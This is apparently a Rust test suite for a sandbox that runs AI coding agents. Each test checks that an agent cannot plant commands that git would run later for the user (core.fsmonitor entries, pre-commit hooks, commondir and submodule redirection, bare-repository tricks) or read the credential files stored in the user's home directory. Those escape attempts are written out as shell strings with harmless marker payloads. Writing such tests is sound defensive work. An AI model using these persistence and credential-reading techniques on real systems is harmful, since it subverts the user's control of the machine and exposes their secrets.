            ".git link's directory moved",
            &git_link,
            format!(
                "mv repo.git r2 && cp -r r2 repo.git && {}",
                plant_fsmonitor("repo.git/config")
            ),
            status,
        ),
        (
            "separate git directory written",
            &separate,
            plant_fsmonitor(".repo/config"),
            status,
        ),
        (
            "separate git directory's hooks written",
            &separate,
            plant_hook(".repo/hooks/pre-commit"),
            commit,
        ),
        (
            "separate git directory given a commondir",
            &separate,
            format!(
                "mkdir -p evil/hooks && cp -r .repo/objects .repo/refs evil/ && cp .repo/config evil/config && {} && echo ../evil > .repo/commondir",
                plant_fsmonitor("evil/config")
            ),
            status,
        ),
        (
            "separate git directory's directory moved",
            &separate_nested,
            format!(
                "mv meta meta.old && mkdir -p meta/repo && cp -a meta.old/repo/. meta/repo/ && chmod -R u+w meta && {}",
                plant_fsmonitor("meta/repo/config")
            ),
            status,
        ),
        (
            "hook's script in .git written",
            &hook_in_git,
            plant_hook(".git/hook-impl/pre-commit"),
            commit,
        ),
        (
            "hook's script's directory in .git moved",
            &hook_in_git,
            format!(
                "mv .git/hook-impl .git/hook-old && mkdir .git/hook-impl && {}",
                plant_hook(".git/hook-impl/pre-commit")
            ),
            commit,
        ),
        (
            "hook's script written",
            &hook_link,
            plant_hook("scripts/pre-commit"),
            commit,
        ),
        (
            "hook's script's directory moved",
            &hook_link,
            format!(
                "mv scripts s2 && mkdir scripts && {}",
                plant_hook("scripts/pre-commit")
            ),
            commit,
        ),
    ];
    for (what, setup, attack, check) in &cases {
        for sandbox in ["--no-sandbox", "--sandbox"] {
            let proj = project();
            setup(proj.path());
            let (code, stdout, stderr) =
                run_sh(&p, proj.path(), sandbox, &format!("{attack}; true"));
            assert_eq!(code, 0, "{what} {sandbox}: {stdout} {stderr}");
            let planted = git_runs_plant(proj.path(), check);
            assert_eq!(
                planted,
                sandbox == "--no-sandbox",
                "{what} {sandbox}: planted {planted}\n{stderr}"
            );
        }
    }
    // git works through the links in the sandbox: a commit through a linked `.git` with a
    // linked hook that runs.
    let proj = project();
    git_link(proj.path());
    hook_link(proj.path());
    let agent = format!("{AS_AGENT}git commit --allow-empty -qm inside && echo committed");
    let (code, stdout, stderr) = run_sh(&p, proj.path(), "--sandbox", &agent);
    assert_eq!(code, 0, "{stderr}");
    assert!(stdout.contains("committed"), "{stdout} {stderr}");
    assert!(git(proj.path(), &["log", "--oneline"]).contains("inside"));
    // A hook with a second hard link in the project: named at the start.
    let proj = project();
    std::fs::create_dir(proj.path().join("scripts")).unwrap();
    std::fs::write(proj.path().join("scripts/pre-commit"), "#!/bin/sh\ntrue\n").unwrap();
    std::fs::hard_link(
        proj.path().join("scripts/pre-commit"),
        proj.path().join(".git/hooks/pre-commit"),
    )
    .unwrap();
    let (code, _, stderr) = run_sh(&p, proj.path(), "--sandbox", "true");
    assert_eq!(code, 0, "{stderr}");
    assert!(
        stderr.contains("pre-commit has another name (a hard link)"),
        "{stderr}"
    );
    // A link to nothing: the agent could create what it leads to.
    for (link, target) in [
        (".git/hooks", "../missing"),
        (".git/hooks/pre-commit", "../../nothing"),
    ] {
        let proj = project();
        if link == ".git/hooks" {
            std::fs::remove_dir_all(proj.path().join(link)).unwrap();
        }
        symlink(target, proj.path().join(link)).unwrap();
        let (code, stdout, stderr) = run_sh(&p, proj.path(), "--sandbox", "echo ran");
        assert_eq!(code, 2, "{link}: {stdout} {stderr}");
        assert!(!stdout.contains("ran"), "{stdout}");
        assert!(
            stderr.contains("which does not exist: the agent could create it"),
            "{stderr}"
        );
    }
}

/// The agent CLIs' own logins and key files (an OpenAI key kept by OpenCode or `llm`, Claude's
/// and Gemini's OAuth tokens) and a VM's docker socket in the home directory are hidden by the
/// built-in list; a hidden JSON file reads as an empty object, so a program that parses it
/// finds no key rather than failing (`llm` stops at an empty file).
#[test]
fn agent_logins_and_vm_sockets_in_the_home_are_hidden() {
    let p = proxy_env();
    let home = fake_home();
    let h = home.path();
    let files = [
        ".codex/auth.json",
        ".claude/.credentials.json",
        ".gemini/oauth_creds.json",
        ".qwen/oauth_creds.json",
        ".local/share/opencode/auth.json",
        ".config/io.datasette.llm/keys.json",
        ".config/github-copilot/apps.json",
        ".cache/huggingface/token",
    ];
    for f in files {
        let path = h.join(f);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, "{\"key\": \"sk-user-secret-0001\"}\n").unwrap();
    }
    std::fs::create_dir_all(h.join(".colima/default")).unwrap();
    let _socket =
        std::os::unix::net::UnixListener::bind(h.join(".colima/default/docker.sock")).unwrap();
    let reads = files
        .iter()
        .map(|f| {
            format!("python3 -c 'import json,sys; print(json.load(open(sys.argv[1])))' ~/{f}; ")
        })
        .collect::<String>();
    let agent = format!("{reads}test -S ~/.colima/default/docker.sock && echo socket-there; true");
    for sandbox in ["--no-sandbox", "--sandbox"] {
        let proj = project();
        let (code, stdout, stderr) = output(
            p.env
                .till()
                .args(["run", sandbox, "--", "sh", "-c", &agent])
                .current_dir(proj.path())
                .env("HOME", h)
                .stdin(Stdio::null()),
        );
        assert_eq!(code, 0, "{sandbox}: {stdout} {stderr}");
        if sandbox == "--no-sandbox" {
            assert_eq!(
                stdout.matches("sk-user-secret-0001").count(),
                files.len(),
                "{stdout}"
            );
            assert!(stdout.contains("socket-there"), "{stdout}");
        } else {
            assert!(!stdout.contains("sk-user-secret"), "{stdout}");
            // Each JSON file read as an empty object (the copilot one is in a hidden
            // directory; the token is no JSON, and reads empty).
            assert_eq!(
                stdout.matches("{}").count(),
                files.len() - 2,
                "{stdout} {stderr}"
            );
            assert!(!stdout.contains("socket-there"), "{stdout}");
        }
    }
}

/// An index the agent grows to a sparse gigabyte is not read whole after the run (it would
/// take that much memory): till reads no more than twice what the index held before, at least
/// 64 MiB, and says it could not check the index.
#[test]
fn an_index_the_agent_grows_huge_is_not_read_whole() {
    let p = proxy_env();
    let proj = project();
    git_commit(proj.path());
    let stderr = sandboxed(&p, proj.path(), "truncate -s 1G .git/index");
    assert!(
        stderr.contains("could not read") && stderr.contains("it is larger than 67108864 bytes"),
        "{stderr}"
    );
}

/// A linked worktree whose main repository is a writable path (so the agent can commit from
/// the worktree): the config and hooks git uses there, and the worktree's `commondir`, are
/// read-only, and a commit still works. A `.git` that leads into /tmp, which the sandbox's
/// private /tmp hides, refuses the run: the agent could put a repository in its place.
#[test]
fn a_worktree_of_a_writable_repository_and_a_git_directory_in_tmp_are_kept() {
    let p = proxy_env();
    let base = outside_tmp();
    let main = base.path().join("main");
    std::fs::create_dir(&main).unwrap();
    git(&main, &["init", "-q", "."]);
    git_commit(&main);
    git(&main, &["worktree", "add", "-q", "../wt"]);
    let wt = base.path().join("wt");
    let url = p.mock.url();
    p.env.config(&format!(
        "[providers.openai]\nbase_url = \"{url}\"\n[sandbox]\nwritable = [\"{}\"]\n",
        main.display()
    ));
    let common = "C=$(git rev-parse --git-common-dir); ";
    let attacks = [
        (
            format!("{common}{}", plant_fsmonitor("$C/config")),
            &["status", "--short"][..],
        ),
        (
            format!("{common}{}", plant_hook("$C/hooks/pre-commit")),
            &["commit", "--allow-empty", "-qm", "after"][..],
        ),
        (
            format!(
                "{common}mkdir -p ../evil && cp -r $C/objects $C/refs $C/HEAD ../evil/ && cp $C/config ../evil/config && {} && echo $(cd ../evil && pwd) > $(git rev-parse --git-dir)/commondir",
                plant_fsmonitor("../evil/config")
            ),
            &["status", "--short"][..],
        ),
        // A commondir planted in the main repository's own git directory: git in the main
        // checkout reads config from where it points.
        (
            format!(
                "{common}mkdir -p ../evil2 && cp -r $C/objects $C/refs $C/HEAD ../evil2/ && cp $C/config ../evil2/config && {} && echo $(cd ../evil2 && pwd) > $C/commondir",
                plant_fsmonitor("../evil2/config")
            ),
            &["-C", "../main", "status", "--short"][..],
        ),
    ];
    for (attack, check) in &attacks {
        for sandbox in ["--no-sandbox", "--sandbox"] {
            let (code, stdout, stderr) =
                run_sh(&p, &wt, sandbox, &format!("{AS_AGENT}{attack}; true"));
            assert_eq!(code, 0, "{sandbox}: {stdout} {stderr}");
            let planted = git_runs_plant(&wt, check) || main.join("planted").exists();
            assert_eq!(
                planted,
                sandbox == "--no-sandbox",
                "{attack} {sandbox}: {stderr}"
            );
            // Put the repositories back as they were for the next attack.
            let _ = std::fs::remove_file(wt.join("planted"));
            let _ = std::fs::remove_file(main.join(".git/hooks/pre-commit"));
            let _ = std::fs::remove_dir_all(base.path().join("evil"));
            let _ = std::fs::remove_dir_all(base.path().join("evil2"));
            let _ = std::fs::remove_file(main.join(".git/commondir"));
            let _ = std::fs::remove_file(main.join("planted"));
            let _ = Command::new("git")
                .args(["config", "--unset-all", "core.fsmonitor"])
                .current_dir(&main)
                .status();
            std::fs::write(main.join(".git/worktrees/wt/commondir"), "../..\n").unwrap();
        }
    }
    // A run that does nothing says nothing of repositories made or changed.
    let (code, _, stderr) = run_sh(&p, &wt, "--sandbox", "true");
    assert_eq!(code, 0, "{stderr}");
    assert!(!stderr.contains("made or changed"), "{stderr}");
    // A commit from the worktree works in the sandbox.
    let (code, stdout, stderr) = run_sh(
        &p,
        &wt,
        "--sandbox",
        &format!("{AS_AGENT}git commit --allow-empty -qm inside && echo committed"),
    );
    assert_eq!(code, 0, "{stderr}");
    assert!(stdout.contains("committed"), "{stdout} {stderr}");

    // A writable path that is the git directory itself: a separate one, and the main
    // repository's `.git` for a worktree.
    let gitdir = base.path().join("K-gitdir");
    let proj = outside_tmp();
    git(
        proj.path(),
        &[
            "init",
            "-q",
            "--separate-git-dir",
            gitdir.to_str().unwrap(),
            ".",
        ],
    );
    for (dir, writable) in [
        (proj.path().to_path_buf(), gitdir.clone()),
        (wt.clone(), main.join(".git")),
    ] {
        p.env.config(&format!(
            "[providers.openai]\nbase_url = \"{url}\"\n[sandbox]\nwritable = [\"{}\"]\n",
            writable.display()
        ));
        let attack = format!("{common}{}; true", plant_fsmonitor("$C/config"));
        let (code, stdout, stderr) = run_sh(&p, &dir, "--sandbox", &attack);
        assert_eq!(code, 0, "{stdout} {stderr}");
        assert!(
            !git_runs_plant(&dir, &["status", "--short"]),
            "{}: {stderr}",
            writable.display()
        );
    }

    // .git → a directory under /tmp.
    let in_tmp = tempfile::tempdir_in("/tmp").unwrap();
    let proj = project();
    std::fs::rename(proj.path().join(".git"), in_tmp.path().join("repo.git")).unwrap();
    std::os::unix::fs::symlink(in_tmp.path().join("repo.git"), proj.path().join(".git")).unwrap();
    let (code, stdout, stderr) = run_sh(&p, proj.path(), "--sandbox", "echo ran");
    assert_ne!(code, 0, "{stdout} {stderr}");
    assert!(!stdout.contains("ran"), "{stdout}");
    assert!(
        stderr.contains("which the sandbox cannot reach"),
        "{stderr}"
    );
}

/// A submodule's working tree has a `.git` of its own (a file naming `.git/modules/NAME`, or an
/// older submodule's directory), and a plain `git status` in the parent goes into it with the
/// config it leads to: the agent can neither point the file at a repository of its own, nor
/// move the submodule's directory away, nor write the older one's config.
#[test]
fn a_submodules_git_cannot_be_turned_to_the_agents_repository() {
    let p = proxy_env();
    let base = outside_tmp();
    let lib = base.path().join("libsrc");
    std::fs::create_dir(&lib).unwrap();
    git(&lib, &["init", "-q", "."]);
    git_commit(&lib);
    let setup = |old_style: bool| {
        let proj = project();
        git_commit(proj.path());
        git(
            proj.path(),
            &[
                "-c",
                "protocol.file.allow=always",
                "submodule",
                "add",
                "-q",
                lib.to_str().unwrap(),
                "lib",
            ],
        );
        git(proj.path(), &["commit", "-qm", "lib"]);
        if old_style {
            // A submodule from before git kept them in .git/modules: its own .git directory.
            std::fs::remove_file(proj.path().join("lib/.git")).unwrap();
            let from = proj.path().join(".git/modules/lib");
            let status = Command::new("cp")
                .args(["-a"])
                .arg(&from)
                .arg(proj.path().join("lib/.git"))
                .status()
                .unwrap();
            assert!(status.success());
            git(
                proj.path(),
                &[
                    "config",
                    "--file",
                    "lib/.git/config",
                    "--unset",
                    "core.worktree",
                ],
            );
        }
        proj
    };
    let evil = "mkdir evil && cp -r .git/modules/lib/. evil/ && git config --file evil/config core.worktree ../lib && ";
    let attacks: [(&str, bool, String); 3] = [
        (
            "file pointed elsewhere",
            false,
            format!(
                "{evil}{} && printf 'gitdir: ../evil\\n' > lib/.git",
                plant_fsmonitor("evil/config")
            ),
        ),
        (
            "directory moved away",
            false,
            format!(
                "{evil}{} && mv lib lib.old && mkdir lib && printf 'gitdir: ../evil\\n' > lib/.git",
                plant_fsmonitor("evil/config")
            ),
        ),
        (
            "older submodule's config written",
            true,
            plant_fsmonitor("lib/.git/config"),
        ),
    ];
    for (what, old_style, attack) in &attacks {
        for sandbox in ["--no-sandbox", "--sandbox"] {
            let proj = setup(*old_style);
            let (code, stdout, stderr) =
                run_sh(&p, proj.path(), sandbox, &format!("{attack}; true"));
            assert_eq!(code, 0, "{what} {sandbox}: {stdout} {stderr}");
            let planted = git_runs_plant(proj.path(), &["status"])
                || proj.path().join("lib/planted").exists();
            assert_eq!(
                planted,
                sandbox == "--no-sandbox",
                "{what} {sandbox}: {stderr}"
            );
        }
    }
    // A submodule not checked out (a clone without --recurse-submodules): the agent gives it
    // a repository of its own, which is moved aside at the end.
    for sandbox in ["--no-sandbox", "--sandbox"] {
        let proj = setup(false);
        let clone = outside_tmp();
        git(
            clone.path(),
            &["clone", "-q", proj.path().to_str().unwrap(), "c"],
        );
        let c = clone.path().join("c");
        assert!(!c.join("lib/.git").exists());
        let (code, stdout, stderr) = run_sh(
            &p,
            &c,
            sandbox,
            "cd lib && git init -q && git config core.fsmonitor 'touch ../planted; false'; true",
        );
        assert_eq!(code, 0, "{sandbox}: {stdout} {stderr}");
        let _ = std::fs::remove_file(c.join("planted"));
        let planted = git_runs_plant(&c, &["status"]);
        assert_eq!(
            planted,
            sandbox == "--no-sandbox",
            "not checked out {sandbox}: {stderr}"
        );
        if sandbox == "--sandbox" {
            assert!(c.join("lib/.git-from-agent").exists(), "{stderr}");
        }
    }
    // A submodule not checked out replaced by a link to a repository of yours: nothing is
    // moved through the link.
    let proj = setup(false);
    let clone = outside_tmp();
    git(
        clone.path(),
        &["clone", "-q", proj.path().to_str().unwrap(), "c"],
    );
    let c = clone.path().join("c");
    let victim = project();
    let (code, _, stderr) = run_sh(
        &p,
        &c,
        "--sandbox",
        &format!("rmdir lib && ln -s {} lib; true", victim.path().display()),
    );
    assert_eq!(code, 0, "{stderr}");
    assert!(victim.path().join(".git/HEAD").exists(), "{stderr}");
    assert!(!victim.path().join(".git-from-agent").exists(), "{stderr}");
    // The directories above a submodule are no mounts of their own: a file moves out of them
    // (a mount between would fail it with EXDEV).
    let proj = project();
    git_commit(proj.path());
    std::fs::create_dir_all(proj.path().join("src/vendor")).unwrap();
    std::fs::write(proj.path().join("src/main.c"), "int main;\n").unwrap();
    git(proj.path(), &["add", "src/main.c"]);
    git(
        proj.path(),
        &[
            "-c",
            "protocol.file.allow=always",
            "submodule",
            "add",
            "-q",
            lib.to_str().unwrap(),
            "src/vendor/lib",
        ],
    );
    git(proj.path(), &["commit", "-qm", "vendor"]);
    let (code, stdout, stderr) = run_sh(
        &p,
        proj.path(),
        "--sandbox",
        "git mv src/main.c main.c && echo moved",
    );
    assert_eq!(code, 0, "{stderr}");
    assert!(stdout.contains("moved"), "{stdout} {stderr}");
    // A submodule's hook linked to a script in the project: `git commit` in the submodule
    // runs it.
    for sandbox in ["--no-sandbox", "--sandbox"] {
        let proj = setup(false);
        std::fs::create_dir(proj.path().join("scripts")).unwrap();
        std::fs::write(proj.path().join("scripts/pc"), "#!/bin/sh\ntrue\n").unwrap();
        std::os::unix::fs::symlink(
            "../../../../scripts/pc",
            proj.path().join(".git/modules/lib/hooks/pre-commit"),
        )
        .unwrap();
        let (code, stdout, stderr) = run_sh(
            &p,
            proj.path(),
            sandbox,
            &format!("{}; true", plant_hook("scripts/pc")),
        );
        assert_eq!(code, 0, "{sandbox}: {stdout} {stderr}");
        let planted = git_runs_plant(
            &proj.path().join("lib"),
            &["commit", "--allow-empty", "-qm", "after"],
        );
        assert_eq!(
            planted,
            sandbox == "--no-sandbox",
            "submodule hook {sandbox}: {stderr}"
        );
    }
    // git still reads the submodule from the sandbox (its git directory is under
    // `.git/modules`, read-only: a commit there fails, as before).
    let proj = setup(false);
    let (code, stdout, stderr) = run_sh(
        &p,
        proj.path(),
        "--sandbox",
        "git status --short && cd lib && git log --oneline && echo read",
    );
    assert_eq!(code, 0, "{stderr}");
    assert!(stdout.contains("read"), "{stdout} {stderr}");
}

/// Where the working directory had no `.git` (a new project, or a directory inside another
/// repository), one the agent makes holds its config and hooks, which git runs at your next
/// command there (a shell prompt that shows git's status runs one at once): it is moved aside
/// when the run ends, with a warning that says how to take it back.
#[test]
fn a_repository_the_agent_makes_in_the_working_directory_is_moved_aside() {
    let p = proxy_env();
    let dir = outside_tmp();
    let agent = format!(
        "{AS_AGENT}git init -q . && git config core.fsmonitor 'touch planted; false' && git commit -q --allow-empty -m mine; true"
    );
    for sandbox in ["--no-sandbox", "--sandbox"] {
        let proj = outside_tmp();
        let (code, stdout, stderr) = run_sh(&p, proj.path(), sandbox, &agent);
        assert_eq!(code, 0, "{sandbox}: {stdout} {stderr}");
        // (The agent's own commit ran its command, in the sandbox.)
        let _ = std::fs::remove_file(proj.path().join("planted"));
        let planted = git_status_runs_plant(proj.path());
        assert_eq!(planted, sandbox == "--no-sandbox", "{sandbox}: {stderr}");
        if sandbox == "--sandbox" {
            let aside = proj.path().join(".git-from-agent");
            assert!(aside.join("config").exists(), "{stderr}");
            assert!(!proj.path().join(".git").exists());
            assert!(stderr.contains(".git-from-agent"), "{stderr}");
            assert!(stderr.contains("mv .git-from-agent .git"), "{stderr}");
        }
    }
    drop(dir);
    // The working directory itself made a bare repository (git takes it for one when there
    // is no `.git`), and every name till would move a `.git` to taken first.
    let bare = "git init -q --bare . && git config core.bare false && git config core.worktree \"$PWD\" && git config core.fsmonitor 'touch planted; false'; true";
    let taken = format!(
        "touch .git-from-agent; for i in $(seq 1 99); do touch .git-from-agent-$i; done; {agent}"
    );
    // A bare repository and an empty `.git` beside it, which git passes over; and a bare
    // shape whose `objects` and `refs` are executable files (git only asks for `X_OK`).
    let bare_and_dir = format!("{}; mkdir .git; true", bare.trim_end_matches("; true"));
    let bare_files = "printf 'ref: refs/heads/main\\n' > HEAD && printf '#!/bin/sh\\n' > objects && chmod +x objects && cp objects refs && printf '[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n\\tworktree = %s\\n\\tfsmonitor = \"touch planted; false\"\\n' \"$PWD\" > config; true";
    for (what, attack) in [
        ("bare", bare.to_string()),
        ("names taken", taken),
        ("bare and .git", bare_and_dir),
        ("bare of files", bare_files.to_string()),
    ] {
        for sandbox in ["--no-sandbox", "--sandbox"] {
            let proj = outside_tmp();
            let (code, stdout, stderr) = run_sh(&p, proj.path(), sandbox, &attack);
            assert_eq!(code, 0, "{what} {sandbox}: {stdout} {stderr}");
            let _ = std::fs::remove_file(proj.path().join("planted"));
            let planted = git_status_runs_plant(proj.path());
            if sandbox == "--no-sandbox" {
                assert!(planted, "{what}: the control plant did not run");
            } else {
                assert!(!planted, "{what}: {stderr}");
                let said = if what.starts_with("bare") {
                    "HEAD-from-agent"
                } else {
                    "moved the git repository the agent made here"
                };
                assert!(stderr.contains(said), "{stderr}");
            }
        }
    }
    // One made deeper down is named, not moved (a dependency cloned into `vendor/` is honest
    // work); entering it, a shell prompt would run its commands.
    let proj = project();
    let (code, _, stderr) = run_sh(
        &p,
        proj.path(),
        "--sandbox",
        &format!("mkdir -p vendor/dep && cd vendor/dep && {agent}"),
    );
    assert_eq!(code, 0, "{stderr}");
    assert!(proj.path().join("vendor/dep/.git").exists());
    let nested = std::fs::canonicalize(proj.path())
        .unwrap()
        .join("vendor/dep/.git");
    assert!(
        stderr.contains(&format!("{}", nested.display()))
            && stderr.contains("read its config and hooks before you run git there"),
        "{stderr}"
    );
    // A nested repository there before, whose config the agent writes in place, and a
    // directory made a bare repository: both named.
    let proj = project();
    git(&proj.path().join("."), &["status", "--short"]);
    std::fs::create_dir_all(proj.path().join("vendor/lib")).unwrap();
    git(&proj.path().join("vendor/lib"), &["init", "-q", "."]);
    std::fs::create_dir(proj.path().join("src")).unwrap();
    std::thread::sleep(std::time::Duration::from_millis(2100));
    let attack = format!(
        "{} && cd src && git init -q --bare . ; true",
        plant_fsmonitor("vendor/lib/.git/config")
    );
    let (code, _, stderr) = run_sh(&p, proj.path(), "--sandbox", &attack);
    assert_eq!(code, 0, "{stderr}");
    let real = std::fs::canonicalize(proj.path()).unwrap();
    for named in [real.join("vendor/lib/.git"), real.join("src")] {
        assert!(
            stderr.contains(&named.display().to_string()),
            "{}: {stderr}",
            named.display()
        );
    }
    // An empty `.git` there before, which the agent fills in: moved aside as a new one.
    for sandbox in ["--no-sandbox", "--sandbox"] {
        let proj = outside_tmp();
        std::fs::create_dir(proj.path().join(".git")).unwrap();
        let fill = "cd .git && printf 'ref: refs/heads/main\\n' > HEAD && mkdir -p objects refs && printf '[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n\\tworktree = %s\\n\\tfsmonitor = \"touch planted; false\"\\n' \"$(dirname $PWD)\" > config; true";
        let (code, stdout, stderr) = run_sh(&p, proj.path(), sandbox, fill);
        assert_eq!(code, 0, "{sandbox}: {stdout} {stderr}");
        let _ = std::fs::remove_file(proj.path().join("planted"));
        let planted = git_status_runs_plant(proj.path());
        assert_eq!(
            planted,
            sandbox == "--no-sandbox",
            "empty .git {sandbox}: {stderr}"
        );
    }
    // A repository that was there before is left alone.
    let proj = project();
    let (code, _, stderr) = run_sh(&p, proj.path(), "--sandbox", &agent);
    assert_eq!(code, 0, "{stderr}");
    assert!(proj.path().join(".git/HEAD").exists());
    assert!(!proj.path().join(".git-from-agent").exists());
}
